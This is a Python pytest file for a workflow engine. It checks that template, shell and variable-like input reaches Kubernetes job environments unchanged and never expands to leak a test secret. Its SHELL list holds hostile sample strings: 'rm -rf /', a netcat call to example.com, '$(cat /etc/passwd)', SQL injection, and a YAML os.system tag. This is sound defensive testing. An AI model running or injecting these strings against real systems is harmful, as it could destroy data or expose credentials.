"""Data that looks like a template, a shell command or a variable arrives as it was, everywhere.

Through the whole engine: body → input and environment → output → next input, undo and handler. What
the kubelet does to environment values (it expands `$(NAME)`) is done here to what was asked for.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from support.world import World, action, step, workflow

CORPUS = Path(__file__).parents[2] / "corpus" / "escapes.yaml"
TEMPLATES = [r["template"] for r in yaml.safe_load(CORPUS.read_text(encoding="utf-8"))["escapes"]]
SHELL = [
    "$(SECRET)",
    "$$(SECRET)",
    "$$$(SECRET)",
    "$(SECRET",
    "${SECRET}",
    "$SECRET",
    "$((1+1))",
    "$(cat /etc/passwd)",
    "`id`",
    "; rm -rf / #",
    "| nc example.com 80 &",
    "' OR '1'='1",
    '"; DROP TABLE users; --',
    "a\nb\r\nc\td",
    "\\x24(SECRET)",
    "%s%n%x",
    "{{ steps.a.output }}",
    "{{ '{{' }} x }}",
    "{%",
    "}}",
    "${{ secrets.TOKEN }}",
    "<%= 1 %>",
    "#{1}",
    "@@x",
    "\u2028\u202e",
    "grüße 👋 \U0001f600",
    "\\u0024(SECRET)",
    "!!python/object:os.system x",
    "- a: b",
    "null",
    "0x10",
    "=1+1",
]


def kubelet_expands(value: str, env: dict[str, str]) -> str:
    """As Kubernetes documents it: `$(NAME)` is replaced if NAME is known, `$$` is one `$`."""

    def replace(found: re.Match[str]) -> str:
        if found[0] == "$$":
            return "$"
        return env.get(found[1], found[0])

    return re.sub(r"\$\$|\$\(([A-Za-z_][A-Za-z0-9_]*)\)", replace, value)


def environment(job: dict[str, Any]) -> dict[str, str]:
    """What the program finds in its environment, the Action's secret among it."""
    [container] = job["spec"]["template"]["spec"]["containers"]
    env = {"SECRET": "hunter2", "steps": "x"}
    for row in container["env"]:
        if "value" in row:
            env[row["name"]] = kubelet_expands(row["value"], env)
    return env


def arrived(world: World, step_id: str | None = None) -> dict[str, Any]:
    """The input as the program finds it, with the variable that was rendered from it."""
    env = environment(world.job(step_id))
    found: dict[str, Any] = json.loads(env["ACTION_INPUT"])
    assert env["COPY"] == found["x"]
    return found


ACTION = {"env": [{"name": "COPY", "value": "{{ input.x }}"}]}
UNDO = {"action": "undo", "input": {"x": "{{ output.x }}"}}
FLOW = workflow(
    step("a", "first", x="{{ trigger.body.x }}", list=["{{ trigger.body }}"]),
    step("b", "second", x="{{ steps.a.output.x }}", text="<{{ steps.a.output.x }}>"),
    onFailure={
        "action": "tell",
        "input": {"x": "{{ trigger.body.x }}", "said": "{{ failure.logsTail }}"},
    },
)


@pytest.mark.parametrize("text", [*SHELL, *TEMPLATES[::10]])
def test_it_arrives_as_it_was(text: str) -> None:
    world = World(
        FLOW,
        action("first", compensate=UNDO, **ACTION),
        *(action(name, **ACTION) for name in ("second", "undo", "tell")),
        body={"x": text},
    )
    world.reconcile()
    assert arrived(world) == {"x": text, "list": [{"x": text}]}
    world.ends(json.dumps({"x": text}))
    world.reconcile()
    assert arrived(world) == {"x": text, "text": f"<{text}>"}
    pod = world.ends(text[:200], code=1)
    world.logs[pod["metadata"]["name"]] = text
    world.reconcile()
    assert arrived(world) == {"x": text}, "the undo"
    world.ends("{}")
    world.reconcile()
    assert arrived(world)["x"] == text
    world.ends("{}")
    world.reconcile()
    assert world.completed
    assert "hunter2" not in json.dumps(world.status)


def test_all_of_them_at_once_arrive_as_they_were() -> None:
    texts = [*SHELL, *TEMPLATES]
    given = {"all": "{{ trigger.body }}", "some": ["{{ trigger.body[0] }}"]}
    flow = workflow(step("a", "first", x="-", **given))
    world = World(flow, action("first", **ACTION), body=texts)
    world.reconcile()
    assert arrived(world) == {"x": "-", "all": texts, "some": [texts[0]]}


def test_a_key_that_looks_like_a_template_is_a_key() -> None:
    key = "{{ trigger.body }}"
    flow = workflow(
        {"id": "a", "action": "first", "input": {key: "{{ trigger.body.x }}", "x": "-"}}
    )
    world = World(flow, action("first", **ACTION), body={"x": "$(SECRET)"})
    world.reconcile()
    assert arrived(world) == {key: "$(SECRET)", "x": "-"}
